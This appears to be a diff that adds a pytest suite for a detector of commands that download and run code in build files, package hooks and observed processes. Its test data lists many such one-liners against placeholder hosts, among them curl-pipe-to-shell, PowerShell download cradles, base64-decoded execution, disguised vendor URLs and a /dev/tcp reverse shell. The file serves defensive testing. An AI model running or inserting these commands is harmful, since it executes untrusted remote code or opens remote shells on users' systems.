@@ -1,0 +1,237 @@
+# ruff: noqa: E501 - one line for each case is easier to read
+"""Commands that fetch and run: one vocabulary for build files, Python's commands and what was seen running."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from gate.commands.addresses import Place, place_of
+from gate.commands.fetched import in_text, says
+from gate.signals.programs import says as seen
+
+TOLD = (
+    "curl https://x.invalid/i.sh | sh",
+    "RUN curl -sSL https://x.invalid/i.sh | sh",
+    "wget -qO- https://x.invalid/i | sudo -E bash -",
+    "bash <(curl -s https://x.invalid/i)",
+    'sh -c "$(curl -fsSL https://x.invalid/i)"',
+    'python -c "$(curl https://x.invalid/i)"',
+    "python3 <(curl https://x.invalid/i)",
+    "iwr https://x.invalid/i.ps1 | iex",
+    "iex (iwr https://x.invalid/i.ps1)",
+    "iex ((New-Object System.Net.WebClient).DownloadString('https://x.invalid/i.ps1'))",
+    "curl -o f https://x.invalid/i; chmod +x f; ./f",
+    "RUN curl -fsSLo /tmp/i.sh https://x.invalid/i.sh && sh /tmp/i.sh",
+    "RUN wget https://x.invalid/i.sh && bash i.sh",
+    "echo aWQ= | base64 -d | sh",
+    'bash -c "$(echo aWQ= | base64 -d)"',
+    'eval "$(curl -s https://x.invalid/i)"',
+    '    session.run("sh", "-c", "curl https://x.invalid/i.sh | sh", external=True)',
+    '    session.run("bash", "-c", "bash <(curl https://x.invalid/i)", external=True)',
+    'RUN ["sh", "-c", "curl https://x.invalid/i.sh | sh"]',
+    '    "postinstall": "curl -s https://x.invalid/i.sh | node"',
+    "curl -H 'Accept: text/plain; q=1' https://x.invalid | sh",
+    "curl x.invalid/a | tee f | sh",
+    'curl https://x.invalid/a | env A="1 2" bash',
+    "(curl https://x.invalid/a; echo) | sh",
+    "source <(curl -s https://x.invalid/i)",
+    ". <(curl -s https://x.invalid/i)",
+    "commands = bash -c 'curl https://x.invalid/i.sh | sh'",
+    "python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://198.51.100.20\").read())'",
+    'bash -c "`curl https://x.invalid/i`"',
+    'bash -c "set -e; $(curl https://x.invalid/i)"',
+    "curl https://x.invalid | python3 -",
+    "curl https://x.invalid | xargs -0 sh -c",
+    "curl https://x.invalid | sh 2>&1",
+    "curl https://x.invalid | $SHELL",
+    'bash <<< "$(curl https://x.invalid/i)"',
+    "ADD https://x.invalid/i.sh /tmp/i.sh && sh /tmp/i.sh",
+    "powershell -enc aWQ9aWQ9aWQ9aWQ9aWQ9aWQ9",
+    "curl https://x.invalid/i.py | python",
+    "echo 'a # b' ; curl https://x.invalid | sh",
+    "x='echo '; curl https://x.invalid|sh; echo 'done'",
+    'execute_process(COMMAND sh -c "curl -fsSL http://198.51.100.20/a.sh | sh")',
+    '{"postCreateCommand": "curl -fsSL http://198.51.100.20/a.sh | sh"}',
+    'curl -fsSL "https://x.invalid/$(uname -m)/i.sh" | sh',
+    "RUN set -eux; curl -fsSL https://x.invalid/i.sh -o i.sh; sh i.sh; rm i.sh",
+    "cmd: curl -sL https://x.invalid | sh -s -- -b /usr/local/bin v1.2",
+    'x=$(curl https://x.invalid); eval "$x"',
+    "curl -k https://sh.rustup.rs | sh",
+    "curl https://astral.sh@x.invalid/uv/install.sh | sh",
+    "python3 -c \"import base64; exec(base64.b64decode('aWQ='))\"",
+)
+NOT_TOLD = (
+    "curl https://api.example | jq .",
+    "curl -s https://x.example/a | python -m json.tool",
+    'curl -s https://x.example/a | python3 -c "import json,sys; print(json.load(sys.stdin))"',
+    "curl -o tool https://get.example/tool",
+    "npm test -- --watch=false | tee log.txt",
+    "session.run('python', '-c', 'import pricing; print(pricing.__version__)')",
+    "c.run('curl -fsS http://localhost:8000/health')",
+    "HEALTHCHECK CMD python -c \"import urllib.request; urllib.request.urlopen('http://localhost:8000/health')\"",
+    "HEALTHCHECK CMD curl -f http://localhost/ || exit 1",
+    'test: ["CMD", "curl", "-f", "http://localhost:8080"]',
+    "RUN apt-get update && apt-get install -y curl bash && rm -rf /var/lib/apt/lists/*",
+    "bash -c 'x=$(curl https://api.example | jq .tag)'",
+    "VERSION=$(curl -s https://api.example/latest); echo $VERSION",
+    "RUN curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/k.gpg",
+    "RUN curl -sSL https://x.example/a.tar.gz | tar -xz -C /opt",
+    'echo "Install with: curl https://x.example | sh"',
+    "python3 setup.py build | tee log",
+    "cat foo | sh",
+    "# curl https://x | sh",
+    "sh run.sh curl | tee x",
+    "curl https://x.example/cfg | kubectl apply -f -",
+    "echo $X | base64 -d > key.json",
+    'bash -c "docker run curlimages/curl"',
+    "- run: bash scripts/curl.sh",
+    "while ! curl -s http://localhost; do sleep 1; done; sh x.sh",
+    'bash -c "until curl -f http://localhost:8080; do sleep 1; done"',
+)
+
+
+@pytest.mark.parametrize("command", TOLD)
+def test_told(command: str) -> None:
+    assert says(command) is not None
+    (one,) = in_text(f"# first\n\n{command}\n")
+    assert (one.first, one.last) == (3, 3)
+    assert one.place > Place.VENDOR
+
+
+@pytest.mark.parametrize("command", NOT_TOLD)
+def test_not_told(command: str) -> None:
+    assert in_text(command) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "first", "last", "how"),
+    [
+        ("a\ncurl -s https://x.invalid/a \\\n  # why\n  | sh\nb", 2, 4, "piped"),
+        ("curl -s https://x.invalid/a |\n  sh", 1, 2, "piped"),
+        ("curl -fsSLO https://x.invalid/a.sh\necho b\nsh ./a.sh", 1, 3, "run"),
+        ("curl -fsSL https://x.invalid/a > /tmp/a\nsudo bash -x /tmp/a", 1, 2, "run"),
+        ("wget -qO a.sh https://x.invalid/z\nchmod 755 a.sh\n./a.sh", 1, 3, "run"),
+        ("wget https://x.invalid/tool\nchmod +x tool", 1, 2, "made executable"),
+        ("ADD https://x.invalid/a.sh /tmp/\nRUN sh /tmp/a.sh", 1, 2, "run"),
+        ('session.run("curl", "-o", "i.sh", URL)\nsession.run("sh", "i.sh")', 1, 2, "run"),
+        ('x="$(curl -s https://x.invalid/a)"\nif true; then\n  eval "$x"\nfi', 3, 3, "substituted"),
+        ('x=$(wget -qO- https://x.invalid/a)\necho "$x" | bash', 2, 2, "substituted"),
+        ("wget x.invalid/a\nchmod +x a\n./a", 1, 3, "run"),
+        ("iwr https://x.invalid/a.ps1 -OutFile a.ps1\npowershell -File a.ps1", 1, 2, "run"),
+    ],
+)
+def test_over_several_lines(text: str, first: int, last: int, how: str) -> None:
+    (one,) = in_text(text)
+    assert (one.first, one.last, one.how) == (first, last, how)
+
+
+def test_yaml_that_folds_lines() -> None:
+    text = "run: >-\n  curl -s\n  https://x.invalid/a\n  | sh\nother: 1\n"
+    assert [(one.first, one.last) for one in in_text(text, folding=True)] == [(1, 4)]
+
+
+@pytest.mark.parametrize(
+    ("address", "place"),
+    [
+        ("https://astral.sh/uv/install.sh", Place.VENDOR),
+        ("https://astral.sh/uv/0.5.1/install.sh", Place.VENDOR),
+        ("https://sh.rustup.rs", Place.VENDOR),
+        ("https://get.docker.com", Place.VENDOR),
+        ("https://deb.nodesource.com/setup_$MAJOR.x", Place.VENDOR),
+        ("https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh", Place.VENDOR),
+        ("https://raw.githubusercontent.com/nvm-sh/../evil/x/i.sh", Place.NAMED),
+        ("https://raw.githubusercontent.com/nvm-sh.evil/x", Place.NAMED),
+        ("https://raw.githubusercontent.com/someone/x/main/i.sh", Place.NAMED),
+        ("https://astral.sh.x.invalid/uv", Place.NAMED),
+        ("https://get.docker.com@x.invalid/", Place.UNREADABLE),
+        ("https://$HOST/i.sh", Place.UNREADABLE),
+        ("https://get.docker.com\\@x.invalid/", Place.UNREADABLE),
+        ("http://get.docker.com", Place.DOUBTFUL),
+        ("get.docker.com", Place.DOUBTFUL),
+        ("https://198.51.100.7/i", Place.DOUBTFUL),
+        ("https://0xc6336407/i", Place.DOUBTFUL),
+        ("https://3325256711/i", Place.DOUBTFUL),
+        ("https://[2001:db8::1]/i", Place.DOUBTFUL),
+        ("https://pastebin.com/raw/abc", Place.DOUBTFUL),
+        ("https://gist.githubusercontent.com/a/b/raw/i.sh", Place.DOUBTFUL),
+        ("http://localhost:8000/i.sh", Place.LOCAL),
+        ("https://[", Place.UNREADABLE),
+    ],
+)
+def test_places(address: str, place: Place) -> None:
+    assert place_of(address) is place
+
+
+@pytest.mark.parametrize(
+    ("text", "place"),
+    [
+        ("ARG UV=https://astral.sh/uv/install.sh\nRUN curl -LsSf $UV | sh", Place.VENDOR),
+        ("# UV=https://astral.sh/uv/install.sh\nRUN curl -LsSf $UV | sh", Place.UNREADABLE),
+        ("UV=https://astral.sh/uv/install.sh\nUV=https://x.invalid/i\ncurl -LsSf $UV | sh", Place.UNREADABLE),
+        ("H=x.invalid\ncurl https://$H/i | sh", Place.NAMED),
+        ("curl -sSL https://sh.rustup.rs https://x.invalid/i | sh", Place.NAMED),
+        ("curl -sSL --insecure https://sh.rustup.rs | sh", Place.DOUBTFUL),
+        ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", Place.VENDOR),
+        ("curl https://x.invalid/i | base64 -d | sh", Place.NAMED),
+    ],
+)
+def test_where_it_comes_from(text: str, place: Place) -> None:
+    (one,) = in_text(text)
+    assert one.place is place
+
+
+SUM = "0123456789abcdef" * 4
+
+
+@pytest.mark.parametrize(
+    ("between", "checked"),
+    [
+        (f'echo "{SUM}  i.sh" | sha256sum -c -', True),
+        (f"S={SUM}\necho $S i.sh | shasum -a 256 --check", True),
+        ("gpg --verify i.sh.asc i.sh", True),
+        (
+            "curl -O https://x.invalid/i.sh.sha256\nsha256sum -c i.sh.sha256",
+            False,
+        ),  # whoever serves one serves both
+        (f'echo "{SUM}  i.sh" | sha256sum -c - || true', False),
+        ("sha256sum i.sh", False),
+        ("echo checked", False),
+    ],
+)
+def test_a_sum_that_is_checked(between: str, checked: bool) -> None:
+    (one,) = in_text(f"curl -O https://x.invalid/i.sh\n{between}\nsh i.sh")
+    assert one.checked is checked
+    (late,) = in_text(f"curl -O https://x.invalid/i.sh\nsh i.sh\n{between}")
+    assert not late.checked
+
+
+def test_what_was_seen_running_has_the_same_words() -> None:
+    assert seen("/bin/sh -c curl -fsSL https://x.invalid/i | sudo -E bash -") == "runs what it downloads"
+    assert seen("bash -c source <(curl -s https://x.invalid/i)") == "runs what it downloads"
+    assert seen("sh -c echo aWQ= | base64 -d | sh") == "decodes a hidden command"
+    assert (
+        seen("bash -c curl https://x.invalid/a | bash -i >& /dev/tcp/203.0.113.7/1 0>&1")
+        == "opens a shell over the network"
+    )
+    assert seen("curl -fsS https://x.invalid/health") is None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl x|" + "sh -c|" * 4000,
+        "python -c " * 3000,
+        "sh $( " * 5000,
+        'sh -c "$(echo ' * 3000,
+        "iex " * 4000 + "curl",
+        "curl -o f x\n" + "sh -a " * 4000 + "f",
+        "'\"" * 8000 + "# curl",
+        ")|sh;" * 4000,
+    ],
+)
+def test_texts_made_to_be_slow(text: str) -> None:
+    start = time.process_time()
+    in_text(text)
+    assert time.process_time() - start < 5  # a tenth of that on a quiet machine
